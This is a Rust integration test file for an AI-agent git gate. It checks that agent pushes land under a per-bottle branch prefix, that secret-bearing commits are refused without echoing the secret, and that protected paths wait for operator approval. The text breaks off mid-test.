//! The git gate's push path with real git in temporary folders: an
//! operator repository, the gate's bare repository as the sidecar prepares
//! it (this binary as its hooks, the operator's branches mirrored), and an
//! agent's clone that pushes to it. No docker, no network: `git push` to a
//! path runs receive-pack, and so the hooks, right here, with the pushing
//! process's environment (the `BOT_BOTTLE_GATE_*` variables).

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use bot_bottle::contract::gate;
use bot_bottle::gitgate::repo::GateRepo;
use bot_bottle::gitgate::{self, GateEnv};
use serde_json::{Value, json};

mod support;

const SLUG: &str = "dev-abcde";
const TOKEN: &str = "tok-Zq8vN3xLr5Kw2Yp7";
/// A realistic AWS access key id (the documentation's example shape).
const AWS_KEY: &str = "AKIAQ7RXWJ3PL5ZT2NVM";

struct Gate {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Gate {
    /// An operator repository with two commits on main, a gate in front of
    /// it, an agent's clone of the gate; `remotes` go into gate.json.
    fn new(remotes: Value) -> Gate {
        let allow = json!({"force_push": false, "delete": false, "tags": false});
        Gate::with(remotes, allow, 1 << 20)
    }

    fn with(remotes: Value, allow: Value, max_push_bytes: u64) -> Gate {
        let dir = tempfile::tempdir().unwrap();
        let gate = Gate {
            root: dir.path().to_path_buf(),
            _dir: dir,
        };
        let op = gate.root.join("operator");
        git(
            &gate.root,
            &["init", "-q", "-b", "main", op.to_str().unwrap()],
        );
        for (file, text) in [("README.md", "hello\n"), ("src.txt", "one\ntwo\n")] {
            fs::write(op.join(file), text).unwrap();
            git(&op, &["add", file]);
            git(&op, &["commit", "-q", "-m", &format!("add {file}")]);
        }
        let config = json!({
            "slug": SLUG,
            "operator": true,
            "head": "main",
            "protected_paths": [".git*", ".envrc", "Jenkinsfile"],
            "allow": allow,
            "max_push_bytes": max_push_bytes,
            "remotes": remotes,
        });
        fs::create_dir_all(gate.state()).unwrap();
        fs::write(gate.state().join("gate.json"), config.to_string()).unwrap();
        // The gate's repository as the sidecar makes it, with this binary
        // as its hooks.
        let config: gitgate::GateConfig = serde_json::from_value(config).unwrap();
        let repo = gate.gate_repo();
        repo.prepare(&config, Path::new(env!("CARGO_BIN_EXE_bot-bottle")))
            .unwrap();
        repo.refresh().unwrap();
        fs::write(
            gate.state().join("tokens.json"),
            json!({"up": "user:pass-for-upstream", "secret": TOKEN}).to_string(),
        )
        .unwrap();
        git(
            &gate.root,
            &[
                "clone",
                "-q",
                &format!("file://{}", gate.repo().display()),
                "agent",
            ],
        );
        gate
    }

    fn state(&self) -> PathBuf {
        self.root.join("state")
    }
    fn repo(&self) -> PathBuf {
        self.state().join("repo.git")
    }
    fn gate_repo(&self) -> GateRepo {
        GateRepo::new(&self.state(), Some(&self.op_git()))
    }
    fn op_git(&self) -> PathBuf {
        self.root.join("operator/.git")
    }
    fn agent(&self) -> PathBuf {
        self.root.join("agent")
    }
    fn audit(&self) -> PathBuf {
        self.root.join("audit.jsonl")
    }
    fn env(&self) -> GateEnv {
        GateEnv {
            state: self.state(),
            operator: Some(self.op_git()),
            audit: Some(self.audit()),
        }
    }

    fn op(&self, args: &[&str]) -> String {
        git(&self.op_git(), args)
    }

    /// The operator's refs and their values.
    fn op_refs(&self) -> BTreeSet<String> {
        self.op(&["for-each-ref", "--format=%(refname) %(objectname)"])
            .lines()
            .map(str::to_owned)
            .collect()
    }

    /// A commit in the agent's clone; returns its id.
    fn commit(&self, file: &str, text: Option<&str>, message: &str) -> String {
        let path = self.agent().join(file);
        match text {
            Some(text) => {
                fs::create_dir_all(path.parent().unwrap()).unwrap();
                fs::write(&path, text).unwrap();
                git(&self.agent(), &["add", file]);
            }
            None => {
                git(&self.agent(), &["rm", "-q", file]);
            }
        }
        git(&self.agent(), &["commit", "-q", "-m", message]);
        git(&self.agent(), &["rev-parse", "HEAD"])
    }

    /// `git push origin ARGS…` from the agent's clone, with the hooks'
    /// variables set; (success, stderr).
    fn push(&self, args: &[&str]) -> (bool, String) {
        let out = command(&self.agent())
            .arg("push")
            .arg("origin")
            .args(args)
            .env(gate::STATE_VAR, self.state())
            .env(gate::OPERATOR_VAR, self.op_git())
            .env(gate::AUDIT_VAR, self.audit())
            .output()
            .unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    /// `landed.json`, read as it is (none: nothing landed).
    fn landed(&self) -> gitgate::Landed {
        match fs::read(self.state().join(gitgate::LANDED_FILE)) {
            Ok(bytes) => serde_json::from_slice(&bytes).unwrap(),
            Err(_) => gitgate::Landed::default(),
        }
    }

    fn queued(&self) -> Vec<Value> {
        let Ok(entries) = fs::read_dir(self.state().join("queue")) else {
            return Vec::new();
        };
        entries
            .map(|e| serde_json::from_slice(&fs::read(e.unwrap().path()).unwrap()).unwrap())
            .collect()
    }

    /// `bot-bottle sidecar git-decide` as the host runs it: `--approve` with
    /// what was shown (`extra`: `--ref=…` and the rest), or `--reject`.
    fn decide(&self, id: &str, extra: &[String]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
            .args(["sidecar", "git-decide", "--state"])
            .arg(self.state())
            .args(["--id", id])
            .args(extra)
            .env(gate::OPERATOR_VAR, self.op_git())
            .env(gate::AUDIT_VAR, self.audit())
            .output()
            .unwrap()
    }

    fn audit_decisions(&self) -> Vec<String> {
        fs::read_to_string(self.audit())
            .unwrap_or_default()
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                assert_eq!(v["tool"], "git-push");
                v["decision"].as_str().unwrap().to_owned()
            })
            .collect()
    }
}

/// What the operator was shown of a queued push, as the gate reads it.
fn shown(queued: &Value) -> gitgate::Shown {
    let r = &queued["request"];
    gitgate::Shown {
        git_ref: r["git_ref"].as_str().unwrap().into(),
        old: r["old"].as_str().unwrap().into(),
        new: r["new"].as_str().unwrap().into(),
        land: r["land"].as_bool().unwrap(),
        forward: r["forward"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f.as_str().unwrap().to_owned())
            .collect(),
    }
}

/// `git-decide` arguments that approve what `shown` says.
fn approve_args(shown: &gitgate::Shown) -> Vec<String> {
    let mut args = vec![
        "--approve".to_owned(),
        format!("--ref={}", shown.git_ref),
        format!("--old={}", shown.old),
        format!("--new={}", shown.new),
    ];
    if shown.land {
        args.push("--land".into());
    }
    args.extend(shown.forward.iter().map(|f| format!("--forward={f}")));
    args
}

fn command(dir: &Path) -> Command {
    let mut cmd = Command::new("git");
    cmd.current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "Agent")
        .env("GIT_AUTHOR_EMAIL", "agent@example.test")
        .env("GIT_COMMITTER_NAME", "Agent")
        .env("GIT_COMMITTER_EMAIL", "agent@example.test")
        .env_remove("GIT_DIR");
    cmd
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out: Output = command(dir).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "git {args:?} in {}: {}",
        dir.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim_end().to_owned()
}

#[test]
fn a_push_lands_as_the_bottles_branch_and_nothing_else_changes() {
    let gate = Gate::new(json!([]));
    let before = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "feature"]);
    let c1 = gate.commit("notes.txt", Some("first\n"), "first note");
    let c2 = gate.commit("src.txt", Some("one\ntwo\nthree\n"), "three");
    let (ok, stderr) = gate.push(&["feature"]);
    assert!(ok, "{stderr}");
    let landed = format!("bot-bottle/{SLUG}/feature");
    assert!(stderr.contains(&format!("landed as {landed}")), "{stderr}");
    let mut want = before.clone();
    want.insert(format!("refs/heads/{landed} {c2}"));
    assert_eq!(gate.op_refs(), want);
    let commits = gate.op(&["rev-list", &landed, "--not", "main"]);
    assert_eq!(commits, format!("{c2}\n{c1}"));
    // The operator's work tree and index are untouched.
    assert_eq!(
        git(&gate.root.join("operator"), &["status", "--porcelain"]),
        ""
    );
    let landed_file = gate.landed();
    assert_eq!(landed_file.branches.len(), 1);
    assert_eq!(landed_file.branches[0].landed_as, landed);
    assert_eq!(landed_file.branches[0].commit, c2);
    // A fast-forward lands too.
    let c3 = gate.commit("notes.txt", Some("first\nsecond\n"), "second note");
    let (ok, stderr) = gate.push(&["feature"]);
    assert!(ok, "{stderr}");
    assert_eq!(gate.op(&["rev-parse", &landed]), c3);
    assert_eq!(gate.audit_decisions(), vec!["landed", "landed"]);
}

#[test]
fn force_push_deletion_and_tags_are_refused_with_their_reasons() {
    let gate = Gate::new(json!([]));
    git(&gate.agent(), &["checkout", "-q", "-b", "feature"]);
    gate.commit("a.txt", Some("a\n"), "a");
    assert!(gate.push(&["feature"]).0);
    let after_landing = gate.op_refs();

    git(
        &gate.agent(),
        &["commit", "-q", "--amend", "-m", "a, rewritten"],
    );
    let (ok, stderr) = gate.push(&["--force", "feature"]);
    assert!(!ok);
    assert!(stderr.contains("non-fast-forward"), "{stderr}");

    let (ok, stderr) = gate.push(&[":feature"]);
    assert!(!ok);
    assert!(stderr.contains("deleting is not allowed"), "{stderr}");

    git(&gate.agent(), &["tag", "v1"]);
    let (ok, stderr) = gate.push(&["v1"]);
    assert!(!ok);
    assert!(stderr.contains("tags are not allowed"), "{stderr}");

    git(&gate.agent(), &["tag", "-a", "-m", "annotated", "v2"]);
    let (ok, stderr) = gate.push(&["v2"]);
    assert!(!ok);
    assert!(stderr.contains("tags are not allowed"), "{stderr}");

    assert_eq!(gate.op_refs(), after_landing);
    assert_eq!(
        gate.audit_decisions(),
        vec!["landed", "refused", "refused", "refused", "refused"]
    );
}

#[test]
fn a_secret_in_an_earlier_commit_refuses_the_push_and_names_that_commit() {
    let gate = Gate::new(json!([]));
    let before = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "feature"]);
    let with_key = gate.commit(
        "conf/app.env",
        Some(&format!("REGION=eu\nAWS_ACCESS_KEY_ID={AWS_KEY}\n")),
        "add app config",
    );
    gate.commit("conf/app.env", Some("REGION=eu\n"), "drop the key");
    gate.commit("more.txt", Some("more\n"), "more");
    let (ok, stderr) = gate.push(&["feature"]);
    assert!(!ok, "{stderr}");
    assert!(stderr.contains(&with_key[..10]), "{stderr}");
    assert!(stderr.contains("add app config"), "{stderr}");
    assert!(stderr.contains("conf/app.env"), "{stderr}");
    assert!(stderr.contains("aws-access-key-id"), "{stderr}");
    assert!(!stderr.contains(AWS_KEY), "{stderr}");

    // The bottle's own secret (from tokens.json), in a changed file.
    git(&gate.agent(), &["reset", "-q", "--hard", "main"]);
    let with_token = gate.commit("src.txt", Some(&format!("one\ntwo\n{TOKEN}\n")), "use it");
    gate.commit("src.txt", Some("one\ntwo\n"), "forget it");
    let (ok, stderr) = gate.push(&["feature"]);
    assert!(!ok, "{stderr}");
    assert!(stderr.contains(&with_token[..10]), "{stderr}");
    assert!(stderr.contains("file src.txt"), "{stderr}");
    assert!(stderr.contains("injected-secret"), "{stderr}");
    assert!(!stderr.contains(TOKEN), "{stderr}");

    // In a commit message: named without its subject.
    git(&gate.agent(), &["reset", "-q", "--hard", "main"]);
    gate.commit("x.txt", Some("x\n"), &format!("token is {TOKEN}"));
    let (ok, stderr) = gate.push(&["feature"]);
    assert!(!ok);
    assert!(stderr.contains("the commit message"), "{stderr}");
    assert!(!stderr.contains(TOKEN), "{stderr}");

    assert_eq!(gate.op_refs(), before);
    let audit = fs::read_to_string(gate.audit()).unwrap();
    assert!(!audit.contains(TOKEN) && !audit.contains(AWS_KEY));
}

#[test]
fn a_protected_path_is_held_and_lands_only_when_approved() {
    let gate = Gate::new(json!([]));
    let before = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "ci"]);
    let new = gate.commit(".github/workflows/ci.yml", Some("on: push\n"), "add CI");
    let (ok, stderr) = gate.push(&["ci"]);
    assert!(!ok);
    assert!(
        stderr.contains("held for the operator as proposal"),
        "{stderr}"
    );
    assert!(stderr.contains(".github/workflows/ci.yml"), "{stderr}");
    assert_eq!(gate.op_refs(), before);
    let queued = gate.queued();
    assert_eq!(queued.len(), 1);
    let request = &queued[0]["request"];
    assert_eq!(request["tool"], "git-push");
    assert_eq!(request["git_ref"], "refs/heads/ci");
    assert_eq!(request["new"], new.as_str());
    assert_eq!(request["land"], true);
    assert!(request["diffstat"].as_str().unwrap().contains("ci.yml"));
    let id = queued[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(
        git(
            &gate.repo(),
            &["rev-parse", &format!("refs/bot-bottle/held/{id}")]
        ),
        new
    );

    // Pushing it again waits for the operator.
    let (ok, stderr) = gate.push(&["ci"]);
    assert!(!ok);
    assert!(stderr.contains(&format!("proposal {id}")), "{stderr}");

    // Approved through the command line, as the host does.
    let out = gate.decide(&id, &approve_args(&shown(&queued[0])));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains(&format!("landed as bot-bottle/{SLUG}/ci")),
        "{stdout}"
    );
    assert_eq!(
        gate.op(&["rev-parse", &format!("bot-bottle/{SLUG}/ci")]),
        new
    );
    assert_eq!(git(&gate.repo(), &["rev-parse", "refs/heads/ci"]), new);
    assert!(gate.queued().is_empty());
    assert!(gate.state().join(format!("archive/{id}.json")).is_file());
    assert_eq!(
        gate.audit_decisions(),
        vec!["held", "refused", "landed", "approved"]
    );

    // Another, rejected (in process): nothing lands, the held ref goes.
    let refs = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "envrc", "main"]);
    gate.commit("tools/.envrc", Some("export X=1\n"), "direnv");
    let (ok, _) = gate.push(&["envrc"]);
    assert!(!ok);
    let id = gate.queued()[0]["id"].as_str().unwrap().to_owned();
    let queued = gate.queued();
    let mut out = Vec::new();
    gitgate::decide_in(&gate.env(), &id, None, &mut out).unwrap();
    assert!(String::from_utf8_lossy(&out).contains("rejected"));
    assert_eq!(gate.op_refs(), refs);
    let held = git(&gate.repo(), &["for-each-ref", "refs/bot-bottle/"]);
    assert_eq!(held, "");
    // Deciding twice is an error.
    let again = shown(&queued[0]);
    assert!(gitgate::decide_in(&gate.env(), &id, Some(&again), &mut Vec::new()).is_err());
}

#[test]
fn forwarding_goes_upstream_only_for_matching_branches() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = dir.path().join("upstream.git");
    git(
        dir.path(),
        &["init", "-q", "--bare", upstream.to_str().unwrap()],
    );
    let gate = Gate::new(json!([{
        "name": "up",
        "url": upstream.display().to_string(),
        "branches": ["agent/*"],
    }]));
    git(
        &gate.root.join("operator"),
        &["push", "-q", upstream.to_str().unwrap(), "main"],
    );

    git(&gate.agent(), &["checkout", "-q", "-b", "agent/x"]);
    let x = gate.commit("x.txt", Some("x\n"), "x");
    let (ok, stderr) = gate.push(&["agent/x"]);
    assert!(ok, "{stderr}");
    assert!(stderr.contains("forwarded to upstream up"), "{stderr}");
    assert_eq!(git(&upstream, &["rev-parse", "refs/heads/agent/x"]), x);
    assert_eq!(gate.landed().branches[0].forwarded, vec!["up"]);

    git(&gate.agent(), &["checkout", "-q", "-b", "other", "main"]);
    let other = gate.commit("o.txt", Some("o\n"), "o");
    let (ok, stderr) = gate.push(&["other"]);
    assert!(ok, "{stderr}");
    assert!(
        stderr.contains(&format!("landed as bot-bottle/{SLUG}/other")),
        "{stderr}"
    );
    assert!(
        stderr.contains("waits for the operator as proposal"),
        "{stderr}"
    );
    assert!(git(&upstream, &["for-each-ref", "refs/heads/other"]).is_empty());
    let queued = gate.queued();
    assert_eq!(queued.len(), 1);
    assert_eq!(queued[0]["request"]["land"], false);
    assert_eq!(queued[0]["request"]["forward"], json!(["up"]));

    // A second push replaces the waiting proposal: a new one (from where
    // the first started), the first withdrawn, never rewritten.
    let first = queued[0]["id"].as_str().unwrap().to_owned();
    let first_old = queued[0]["request"]["old"].clone();
    let other2 = gate.commit("o.txt", Some("o\no\n"), "o2");
    assert!(gate.push(&["other"]).0);
    let queued = gate.queued();
    assert_eq!(queued.len(), 1);
    assert_eq!(queued[0]["request"]["new"], other2.as_str());
    assert_eq!(queued[0]["request"]["old"], first_old);
    assert_eq!(queued[0]["replaces"], first.as_str());
    let id = queued[0]["id"].as_str().unwrap().to_owned();
    assert_ne!(id, first);
    let withdrawn: Value = serde_json::from_slice(
        &fs::read(gate.state().join(format!("archive/{first}.json"))).unwrap(),
    )
    .unwrap();
    assert_eq!(withdrawn["proposal"]["request"]["new"], other.as_str());
    assert_eq!(withdrawn["response"]["decision"], "withdrawn");
    assert_eq!(withdrawn["response"]["replaced_by"], id.as_str());

    let mut out = Vec::new();
    gitgate::decide_in(&gate.env(), &id, Some(&shown(&queued[0])), &mut out).unwrap();
    assert_eq!(git(&upstream, &["rev-parse", "refs/heads/other"]), other2);
    let landed = gate.landed();
    let other_landed = landed
        .branches
        .iter()
        .find(|b| b.branch == "other")
        .unwrap();
    assert_eq!(other_landed.forwarded, vec!["up"]);
    assert_eq!(
        gate.audit_decisions(),
        vec![
            "landed",
            "forwarded",
            "landed",
            "held",
            "landed",
            "held",
            "forwarded",
            "approved"
        ]
    );
}

#[test]
fn a_held_commit_pushed_again_under_another_name_is_held_too() {
    let gate = Gate::new(json!([]));
    let before = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "ci"]);
    gate.commit("Jenkinsfile", Some("pipeline {}\n"), "jenkins");
    assert!(!gate.push(&["ci"]).0);
    // The held commit, and one on top of it.
    let (ok, stderr) = gate.push(&["ci:copy"]);
    assert!(!ok);
    assert!(stderr.contains("held for the operator"), "{stderr}");
    gate.commit("harmless.txt", Some("h\n"), "harmless");
    let (ok, stderr) = gate.push(&["ci:copy2"]);
    assert!(!ok);
    assert!(stderr.contains("Jenkinsfile"), "{stderr}");
    assert_eq!(gate.op_refs(), before);
    assert_eq!(gate.queued().len(), 3);
}

#[test]
fn what_the_manifest_allows_lands_and_forced_pushes_go_upstream_with_a_lease() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = dir.path().join("upstream.git");
    git(
        dir.path(),
        &["init", "-q", "--bare", upstream.to_str().unwrap()],
    );
    let allow = json!({"force_push": true, "delete": true, "tags": true});
    let gate = Gate::with(
        json!([{"name": "up", "url": upstream.display().to_string(), "branches": ["**"]}]),
        allow,
        1 << 20,
    );
    git(&gate.agent(), &["checkout", "-q", "-b", "feature"]);
    gate.commit("a.txt", Some("a\n"), "a");
    assert!(gate.push(&["feature"]).0);
    // A rewrite lands and replaces the upstream branch.
    git(
        &gate.agent(),
        &["commit", "-q", "--amend", "-m", "a, rewritten"],
    );
    let rewritten = git(&gate.agent(), &["rev-parse", "HEAD"]);
    let (ok, stderr) = gate.push(&["--force", "feature"]);
    assert!(ok, "{stderr}");
    assert!(stderr.contains("forwarded to upstream up"), "{stderr}");
    assert_eq!(
        git(&upstream, &["rev-parse", "refs/heads/feature"]),
        rewritten
    );
    assert_eq!(
        gate.op(&["rev-parse", &format!("bot-bottle/{SLUG}/feature")]),
        rewritten
    );
    // Tags land under the bottle's prefix, never upstream.
    git(&gate.agent(), &["tag", "-a", "-m", "one", "v1"]);
    let (ok, stderr) = gate.push(&["v1"]);
    assert!(ok, "{stderr}");
    let tag = git(&gate.agent(), &["rev-parse", "v1"]);
    assert_eq!(
        gate.op(&["rev-parse", &format!("refs/tags/bot-bottle/{SLUG}/v1")]),
        tag
    );
    assert!(git(&upstream, &["tag"]).is_empty());
    // A deletion removes the landed branch, and nothing upstream.
    let (ok, stderr) = gate.push(&[":feature"]);
    assert!(ok, "{stderr}");
    assert!(
        gate.op(&["for-each-ref", &format!("refs/heads/bot-bottle/{SLUG}/")])
            .is_empty()
    );
    assert!(gate.landed().branches.is_empty());
    assert_eq!(
        git(&upstream, &["rev-parse", "refs/heads/feature"]),
        rewritten
    );
}

#[test]
fn merges_of_the_operators_work_and_binary_files_are_scanned_for_what_they_add() {
    let gate = Gate::with(
        json!([]),
        json!({"force_push": false, "delete": false, "tags": false}),
        1 << 20,
    );
    let op = gate.root.join("operator");
    // The operator's own fixture holds a key-shaped string, in a text and
    // a binary file; the agent merges that in and edits the binary.
    fs::write(op.join("fixture.txt"), format!("{AWS_KEY}\n")).unwrap();
    let mut binary = b"\0\x01bin".to_vec();
    binary.extend(AWS_KEY.as_bytes());
    fs::write(op.join("blob.bin"), &binary).unwrap();
    git(&op, &["add", "."]);
    git(&op, &["commit", "-q", "-m", "fixtures"]);
    git(&gate.agent(), &["checkout", "-q", "-b", "feature"]);
    gate.commit("mine.txt", Some("mine\n"), "mine");
    // The agent fetches the operator's main through the gate and merges.
    gate.gate_repo().refresh().unwrap();
    git(&gate.agent(), &["fetch", "-q", "origin"]);
    git(&gate.agent(), &["merge", "-q", "--no-edit", "origin/main"]);
    binary.extend(b" more");
    fs::write(gate.agent().join("blob.bin"), &binary).unwrap();
    git(&gate.agent(), &["commit", "-q", "-am", "edit the binary"]);
    let (ok, stderr) = gate.push(&["feature"]);
    assert!(ok, "{stderr}");
    // A new binary file with a key is refused.
    fs::write(gate.agent().join("new.bin"), &binary).unwrap();
    git(&gate.agent(), &["add", "new.bin"]);
    git(&gate.agent(), &["commit", "-q", "-m", "new binary"]);
    let (ok, stderr) = gate.push(&["feature"]);
    assert!(!ok);
    assert!(stderr.contains("file new.bin"), "{stderr}");
}

#[test]
fn a_push_too_large_to_scan_is_refused() {
    let gate = Gate::with(
        json!([]),
        json!({"force_push": false, "delete": false, "tags": false}),
        256 << 10,
    );
    git(&gate.agent(), &["checkout", "-q", "-b", "big"]);
    // Compresses to almost nothing, but is more than 4 × the limit.
    gate.commit("zeros.txt", Some(&"0".repeat(2 << 20)), "zeros");
    let (ok, stderr) = gate.push(&["big"]);
    assert!(!ok);
    assert!(stderr.contains("too large to scan"), "{stderr}");
}

/// A bare repository in `dir` standing in for an upstream; the operator's
/// `main` pushed to it.
fn upstream_with_main(dir: &Path, gate: &Gate) -> PathBuf {
    let upstream = dir.join("upstream.git");
    git(
        dir,
        &[
            "init",
            "-q",
            "--bare",
            "-b",
            "main",
            upstream.to_str().unwrap(),
        ],
    );
    git(
        &gate.root.join("operator"),
        &["push", "-q", upstream.to_str().unwrap(), "main"],
    );
    upstream
}

/// Whether a repository has an object.
fn has_object(repo: &Path, oid: &str) -> bool {
    command(repo)
        .args(["cat-file", "-e", oid])
        .status()
        .unwrap()
        .success()
}

#[test]
fn forwarding_scans_every_commit_the_remote_does_not_have() {
    let dir = tempfile::tempdir().unwrap();
    let gate = Gate::new(json!([{
        "name": "up",
        "url": dir.path().join("upstream.git").display().to_string(),
        "branches": ["agent/*"],
    }]));
    let upstream = upstream_with_main(dir.path(), &gate);
    let op = gate.root.join("operator");

    // The operator's fixture with a key shape, pushed upstream long ago;
    // then the remote moves on with a commit the operator has fetched
    // (a remote-tracking branch, which the gate does not mirror) but not
    // merged. A branch on the operator's main brings the remote nothing
    // but its own commit: it goes on.
    fs::write(op.join("fixture.env"), format!("KEY={AWS_KEY}\n")).unwrap();
    git(&op, &["add", "fixture.env"]);
    git(&op, &["commit", "-q", "-m", "operator's fixture"]);
    git(&op, &["push", "-q", upstream.to_str().unwrap(), "main"]);
    let other = dir.path().join("other");
    git(
        dir.path(),
        &[
            "clone",
            "-q",
            upstream.to_str().unwrap(),
            other.to_str().unwrap(),
        ],
    );
    fs::write(other.join("theirs.txt"), "theirs\n").unwrap();
    git(&other, &["add", "theirs.txt"]);
    git(&other, &["commit", "-q", "-m", "someone else's"]);
    git(&other, &["push", "-q", "origin", "main"]);
    git(
        &op,
        &[
            "fetch",
            "-q",
            upstream.to_str().unwrap(),
            "main:refs/remotes/up/main",
        ],
    );
    gate.gate_repo().refresh().unwrap();
    git(&gate.agent(), &["fetch", "-q", "origin"]);
    git(
        &gate.agent(),
        &["checkout", "-q", "-b", "agent/ok", "origin/main"],
    );
    let ok_commit = gate.commit("ok.txt", Some("ok\n"), "fine");
    let (ok, stderr) = gate.push(&["agent/ok"]);
    assert!(ok, "{stderr}");
    assert!(stderr.contains("forwarded to upstream up"), "{stderr}");
    assert_eq!(
        git(&upstream, &["rev-parse", "refs/heads/agent/ok"]),
        ok_commit
    );

    // The operator commits a key locally and does not push it. The agent
    // branches from that main: the branch is clean, but forwarding it
    // would carry the operator's commit upstream, so it is not forwarded.
    fs::write(
        op.join("local.env"),
        format!("AWS_ACCESS_KEY_ID={AWS_KEY}\n"),
    )
    .unwrap();
    git(&op, &["add", "local.env"]);
    git(&op, &["commit", "-q", "-m", "local only"]);
    let unpushed = gate.op(&["rev-parse", "main"]);
    gate.gate_repo().refresh().unwrap();
    git(&gate.agent(), &["fetch", "-q", "origin"]);
    git(
        &gate.agent(),
        &["checkout", "-q", "-b", "agent/x", "origin/main"],
    );
    let x = gate.commit("x.txt", Some("x\n"), "x");
    let (ok, stderr) = gate.push(&["agent/x"]);
    assert!(ok, "it lands home all the same: {stderr}");
    assert!(
        stderr.contains(&format!("landed as bot-bottle/{SLUG}/agent/x")),
        "{stderr}"
    );
    assert_eq!(
        gate.op(&["rev-parse", &format!("bot-bottle/{SLUG}/agent/x")]),
        x
    );
    assert!(stderr.contains("not forwarded"), "{stderr}");
    assert!(stderr.contains(&unpushed[..10]), "{stderr}");
    assert!(stderr.contains("local.env"), "{stderr}");
    assert!(stderr.contains("aws-access-key-id"), "{stderr}");
    assert!(!stderr.contains(AWS_KEY), "{stderr}");
    assert!(git(&upstream, &["for-each-ref", "refs/heads/agent/x"]).is_empty());
    assert!(
        !has_object(&upstream, &unpushed),
        "the secret went upstream"
    );
    let landed = gate.landed();
    let x_landed = landed
        .branches
        .iter()
        .find(|b| b.branch == "agent/x")
        .unwrap();
    assert!(x_landed.forwarded.is_empty(), "{landed:?}");
    let decisions = gate.audit_decisions();
    assert_eq!(
        decisions.last().map(String::as_str),
        Some("refused"),
        "{decisions:?}"
    );
    let audit = fs::read_to_string(gate.audit()).unwrap();
    assert!(!audit.contains(AWS_KEY));
}

#[test]
fn a_small_pack_of_deltas_is_kept_as_a_pack() {
    // 41 near-copies of 256 KiB of noise: a pack of a few hundred KiB,
    // 10 MiB once unpacked. The limit (4 MiB) counts what git writes.
    let gate = Gate::with(
        json!([]),
        json!({"force_push": false, "delete": false, "tags": false}),
        4 << 20,
    );
    let loose_before = gate.op(&["count-objects"]);
    git(&gate.agent(), &["checkout", "-q", "-b", "deltas"]);
    let noise: Vec<u8> = support::xorshift(0x2545_f491_4f6c_dd1d)
        .take(256 << 10)
        .map(|x| (x >> 24) as u8)
        .collect();
    for i in 0..41 {
        let mut copy = noise.clone();
        copy[i * 997] ^= 0x5a;
        fs::write(gate.agent().join(format!("copy{i}.bin")), copy).unwrap();
    }
    git(&gate.agent(), &["add", "."]);
    git(&gate.agent(), &["commit", "-q", "-m", "copies"]);
    let head = git(&gate.agent(), &["rev-parse", "HEAD"]);
    let (ok, stderr) = gate.push(&["deltas"]);
    assert!(ok, "{stderr}");
    assert_eq!(
        gate.op(&["rev-parse", &format!("bot-bottle/{SLUG}/deltas")]),
        head
    );
    // Kept as packs, on both sides: no loose object was written.
    let loose = git(&gate.repo(), &["count-objects"]);
    assert!(loose.starts_with("0 objects"), "{loose}");
    assert_eq!(gate.op(&["count-objects"]), loose_before);
    let packs: u64 = fs::read_dir(gate.repo().join("objects/pack"))
        .unwrap()
        .map(|e| e.unwrap().metadata().unwrap().len())
        .sum();
    assert!(packs < 2 << 20, "{packs} bytes of packs");
}

/// `landed.json` naming `n` branches `b0`… at `commit`.
fn landed_json(n: usize, commit: &str) -> String {
    let branches: Vec<Value> = (0..n)
        .map(|i| {
            json!({"branch": format!("b{i}"), "landed_as": format!("bot-bottle/{SLUG}/b{i}"),
                   "commit": commit, "at": "2026-01-01T00:00:00Z"})
        })
        .collect();
    json!({ "branches": branches }).to_string()
}

#[test]
fn refs_per_push_and_branches_per_bottle_are_capped() {
    let gate = Gate::new(json!([]));
    let before = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "feature"]);
    let head = gate.commit("a.txt", Some("a\n"), "a");
    // 33 refs in one push: more than a push may name (32).
    let many: Vec<String> = (0..33)
        .map(|i| format!("HEAD:refs/heads/many/{i}"))
        .collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    let (ok, stderr) = gate.push(&many);
    assert!(!ok, "{stderr}");
    assert!(stderr.contains("33 refs"), "{stderr}");
    assert!(stderr.contains("at most 32"), "{stderr}");
    assert_eq!(gate.op_refs(), before);
    assert!(git(&gate.repo(), &["for-each-ref", "refs/heads/many/"]).is_empty());

    // A bottle with 128 branches (landed and held) gets no new one; a
    // branch it has already moves on.
    fs::write(
        gate.state().join(gitgate::LANDED_FILE),
        landed_json(128, &head),
    )
    .unwrap();
    let (ok, stderr) = gate.push(&["feature:refs/heads/one-more"]);
    assert!(!ok, "{stderr}");
    assert!(stderr.contains("128 branches"), "{stderr}");
    assert_eq!(gate.op_refs(), before);
    let (ok, stderr) = gate.push(&["feature:refs/heads/b7"]);
    assert!(ok, "{stderr}");
    assert_eq!(gate.landed().branches.len(), 128);
}

#[test]
fn an_unreadable_landed_file_stops_landing_and_is_never_read_as_empty() {
    let gate = Gate::new(json!([]));
    git(&gate.agent(), &["checkout", "-q", "-b", "feature"]);
    gate.commit("a.txt", Some("a\n"), "a");
    assert!(gate.push(&["feature"]).0);
    let before = gate.op_refs();
    let path = gate.state().join(gitgate::LANDED_FILE);
    for bad in [
        "{not json".to_owned(),
        format!("{}{}", landed_json(1, "abc"), " ".repeat(5 << 20)),
    ] {
        fs::write(&path, &bad).unwrap();
        git(&gate.agent(), &["checkout", "-q", "-b", "another", "main"]);
